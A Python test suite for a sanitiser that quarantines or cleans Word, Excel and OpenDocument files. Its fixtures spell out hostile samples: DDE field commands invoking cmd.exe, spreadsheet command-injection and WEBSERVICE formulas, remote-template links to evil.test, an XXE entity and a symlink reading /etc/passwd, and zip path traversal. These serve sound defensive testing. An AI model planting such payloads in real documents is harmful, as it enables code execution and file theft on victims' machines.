"""Office and OpenDocument files: what runs or calls out holds the file, makers' marks go, text and links stay."""

import io
import zipfile

import pytest

from sgd_resources.cleaning.archive import read_members
from sgd_resources.cleaning.office import clean_office
from sgd_resources.cleaning.opendocument import clean_opendocument
from sgd_resources.errors import RejectedEvidence
from sgd_resources.examination import Cleaning, Limits
from tests.hostile import made

LIMITS = Limits()
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def word(body: str) -> str:
    relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<w:document xmlns:w="{made.WORD}" xmlns:r="{relationships}"><w:body>{body}</w:body></w:document>'


SPLIT_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
    '<w:r><w:instrText>E cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def sheet(formula: str) -> bytes:
    cell = f'<sheetData><row r="1"><c r="A1"><f>{formula}</f></c></row></sheetData>'
    return made.xlsx(f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{cell}</worksheet>')


def office(data: bytes) -> Cleaning:
    return clean_office(data, "", LIMITS)


def is_held(found: Cleaning) -> bool:
    return found.details.get("refusal") == {"verdict": "quarantine", "reason": "active_content"}


@pytest.mark.parametrize(
    "data",
    [
        made.docx({"word/vbaProject.bin": OLE}, relations=made.relation("vbaProject", "vbaProject.bin")),
        made.docx({"word/x.bin": OLE}, relations=made.relation("oleObject", "x.bin")),
        made.docx({"word/picture.png": OLE}),
        made.docx({"word/a.html": "<script>1</script>"}, relations=made.relation("aFChunk", "a.html")),
        made.docx(relations=made.relation("attachedTemplate", "https://evil.test/t.dotm", is_external=True)),
        made.docx(relations=made.relation("frame", "https://evil.test/", is_external=True)),
        made.docx(relations=made.relation("subDocument", "https://evil.test/", is_external=True)),
        made.docx(document=word('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe &quot;/k&quot; "/></w:p>')),
        made.docx(document=word(SPLIT_FIELD)),
        made.docx(document=word('<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil.test/x.png"/></w:p>')),
        made.docx({"word/a.exe": "MZ"}),
        sheet("WEBSERVICE(&quot;http://evil.test&quot;)"),
        sheet("cmd|' /c calc'!A0"),
        sheet("CALL(&quot;Kernel32&quot;,1)"),
        made.xlsx("<worksheet/>", {"xl/macrosheets/sheet1.xml": "<x/>"}),
    ],
)  # fmt: skip
def test_what_runs_or_calls_out_holds_the_file(data: bytes) -> None:
    assert is_held(office(data))


def test_a_broken_part_with_a_command_is_held_too() -> None:
    broken = word('<w:p><w:fldSimple w:instr=" DDEAUTO cmd.exe "/k echo" "/></w:p>')
    assert is_held(office(made.docx(document=broken)))


@pytest.mark.parametrize(
    "data",
    [
        made.docx(relations=made.relation("hyperlink", "https://example.org/", is_external=True)),
        made.docx(document=word('<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:t>DDE is a protocol</w:t></w:r></w:p>')),
        sheet("SUM(A1:A3)"),
    ],
)
def test_ordinary_links_fields_and_formulas_pass_unchanged(data: bytes) -> None:
    found = office(data)
    assert (found.how, found.data == data) == ("", True)


def test_makers_marks_go_and_text_stays() -> None:
    kept = "<w:p><w:ins w:author='c4n4ry'><w:r><w:t>Kept</w:t></w:r></w:ins></w:p>"
    gone = (
        "<w:p><w:del w:author='c4n4ry'><w:r><w:delText>c4n4ry</w:delText></w:r></w:del>"
        "<w:r><w:rPr><w:vanish/></w:rPr><w:t>c4n4ry</w:t></w:r></w:p>"
    )
    extra: dict[str, bytes | str] = {"docProps/core.xml": "<a>c4n4ry</a>", "word/comments.xml": "<a>c4n4ry</a>"}
    found = office(made.docx(extra, word(kept + gone), made.relation("comments", "comments.xml")))
    with zipfile.ZipFile(io.BytesIO(found.data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert found.how == "stripped"
    assert b"Kept" in parts["word/document.xml"]
    assert not any(b"c4n4ry" in part for part in parts.values())
    assert set(parts) == {"[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels"}


def test_cleaning_twice_is_cleaning_once() -> None:
    once = office(made.docx({"docProps/core.xml": "<a/>"})).data
    assert office(once).data == once


def test_a_link_to_a_script_or_a_share_leads_nowhere() -> None:
    for target in ("javascript:alert(1)", "file:///etc/passwd", "\\\\evil\\share"):
        found = office(made.docx(relations=made.relation("hyperlink", target, is_external=True)))
        assert target.encode() not in read_members(found.data, LIMITS)["word/_rels/document.xml.rels"]


def test_a_linked_picture_is_cut_off() -> None:
    blip = '<w:p><a:blip xmlns:a="x" r:link="rId9"/></w:p>'
    found = office(
        made.docx(document=word(blip), relations=made.relation("image", "http://evil.test/", is_external=True))
    )
    parts = read_members(found.data, LIMITS)
    assert b"evil.test" not in b"".join(parts.values())
    assert b"r:link" not in parts["word/document.xml"]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (made.docx(document='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), "entities"),
        (made.docx({"../../etc/x": "x"}), "archive_path"),
        (made.docx({"/abs": "x"}), "archive_path"),
        (made.docx(document="<a>"), "malformed"),
        (made.docx({"WORD/document.xml": "<a/>"}), "malformed"),
        (b"<html>" + made.docx(), "polyglot"),
        (made.docx() + b"<script>1</script>", "polyglot"),
        (made.docx()[:-40], "malformed"),
    ],
)
def test_bad_containers_are_refused_with_their_reason(data: bytes, reason: str) -> None:
    with pytest.raises(RejectedEvidence) as caught:
        office(data)
    assert caught.value.reason == reason


def test_a_link_in_the_archive_is_refused() -> None:
    out = io.BytesIO(made.docx())
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/link")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    with pytest.raises(RejectedEvidence, match="archive_path"):
        office(out.getvalue())


def test_a_charts_workbook_is_judged_like_a_file_of_its_own() -> None:
    relations = made.relation("package", "embeddings/book.xlsx")
    harmless = office(made.docx({"word/embeddings/book.xlsx": made.xlsx("<worksheet/>")}, relations=relations))
    assert "refusal" not in harmless.details
    held = office(made.docx({"word/embeddings/book.xlsx": sheet("CALL(1)")}, relations=relations))
    assert is_held(held)


@pytest.mark.parametrize(
    "data",
    [
        made.odt({"Basic/Standard/Module1.xml": "<a/>"}),
        made.odt(content='<text:p><script:event-listener xlink:href="vnd.sun.star.script:x"/></text:p>'),
        made.odt({"Object 1": OLE}),
    ],
)
def test_an_open_document_that_runs_is_held(data: bytes) -> None:
    assert is_held(clean_opendocument(data, "", LIMITS))


def test_an_open_document_loses_its_makers_marks() -> None:
    found = clean_opendocument(made.odt({"meta.xml": "<a>c4n4ry</a>", "Thumbnails/t.png": b"c4n4ry"}), "", LIMITS)
    parts = read_members(found.data, LIMITS)
    assert list(parts) == ["mimetype", "content.xml"]
    assert b"Hello" in parts["content.xml"]
    assert clean_opendocument(found.data, "", LIMITS).data == found.data


def test_an_encrypted_open_document_is_refused() -> None:
    manifest = (
        '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<m:file-entry m:full-path="content.xml">'
        "<m:encryption-data/></m:file-entry></m:manifest>"
    )
    with pytest.raises(RejectedEvidence, match="encrypted"):
        clean_opendocument(made.odt({"META-INF/manifest.xml": manifest}), "", LIMITS)
